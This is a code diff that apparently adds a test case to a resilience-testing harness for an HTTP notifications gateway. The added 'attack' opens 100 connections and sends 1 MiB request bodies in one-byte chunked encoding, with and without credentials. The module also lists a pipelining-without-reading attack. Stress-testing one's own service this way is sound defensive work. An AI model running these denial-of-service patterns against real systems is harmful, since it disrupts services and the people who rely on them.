@@ -64,11 +64,35 @@ const callOf = (path, headers, body) =>
     body,
   ].join('\r\n');
 
+/** A call whose body of 1 MiB comes in chunks of one byte. @param {object} headers */
+const ofOneByteChunks = (headers) =>
+  callOf('notifications/add', { ...headers, 'transfer-encoding': 'chunked' }, '').replace('content-length: 0\r\n', '');
+const ONE_BYTE_CHUNKS = Buffer.from(`${'1\r\n \r\n'.repeat(1024 * 1024)}0\r\n\r\n`);
+
 /** @param {Target} options */
 const heavyCall = ({ tenant }) => callOf('notifications/get', tenant, bodyOf({ ...HEAVY, pageSize: 1000 }));
 
+/** @param {string} who @param {(target: Target) => object} headersOf @returns {import('./all.mjs').Attack} */
+const oneByteChunks = (who, headersOf) => ({
+  name: `bodies in one-byte chunks, ${who}`,
+  seconds: 10,
+  why: 'Each chunk costs the gateway as much as kilobytes: 1 MiB in chunks of one byte, one after the other, on 100 connections.',
+  start: (target) =>
+    new Sockets(target, 100, (socket, sockets) => {
+      const next = () => {
+        if (socket.destroyed) return;
+        socket.write(ofOneByteChunks(headersOf(target)));
+        sockets.sent++;
+        socket.write(ONE_BYTE_CHUNKS, next);
+      };
+      next();
+    }),
+});
+
 /** @type {import('./all.mjs').Attack[]} */
 export const HTTP_SOCKETS = [
+  oneByteChunks('with a key', ({ tenant }) => tenant),
+  oneByteChunks('without credentials', () => ({})),
   {
     name: 'pipelining without reading',
     why: 'Unread answers occupy places and memory: 1,100 pages of 4 MiB on 20 connections.',
